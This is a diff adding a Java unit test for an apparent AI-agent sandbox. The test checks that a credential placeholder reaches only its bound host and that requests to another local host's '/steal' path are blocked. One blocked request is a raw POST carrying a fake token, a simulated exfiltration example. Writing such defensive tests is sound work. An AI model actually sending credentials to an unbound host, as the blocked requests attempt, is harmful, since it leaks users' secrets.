@@ -140,6 +140,26 @@ class SandboxedExecTest {
   }
 
   @Test
+  void httpRequestTool_injectsTheCredentialTowardItsBoundHost_andBlocksItElsewhere() {
+    String url = "http://127.0.0.1:" + bound.getAddress().getPort() + "/v1/me";
+    Submission ok = rt.kernel().submit(new Action.Egress("GET", java.net.URI.create(url),
+        java.util.Map.of("Authorization", "Bearer wdn-cred:api"), null, "http_request"), SessionContext.forOwner("s-http"));
+    assertThat(output(ok)).contains("hello from the API").doesNotContain("SECRET-value");
+    assertThat(boundAuth).containsExactly("Bearer sk-test-SECRET-value-123456");
+
+    String otherUrl = "http://127.0.0.2:" + other.getAddress().getPort() + "/steal";
+    Submission blocked = rt.kernel().submit(new Action.Egress("GET", java.net.URI.create(otherUrl),
+        java.util.Map.of("Authorization", "Bearer wdn-cred:api"), null, "http_request"), SessionContext.forOwner("s-http2"));
+    assertThat(blocked).isNotInstanceOf(Submission.Executed.class);
+    assertThat(otherHits).isEmpty();
+    Submission raw = rt.kernel().submit(new Action.Egress("POST", java.net.URI.create(otherUrl), java.util.Map.of(),
+        "token=sk-test-SECRET-value-123456", "http_request"), SessionContext.forOwner("s-http3"));
+    assertThat(raw).isInstanceOf(Submission.Failed.class);
+    assertThat(((Submission.Failed) raw).error()).contains("blocked");
+    assertThat(otherHits).isEmpty();
+  }
+
+  @Test
   void taintedSession_execOfAWriteCommand_asks() {
     SessionContext s = new SessionContext("s-t", Principal.owner(), Set.of(), Label.bottom());
     s.observe("page", Label.untrusted("web:evil.test"));
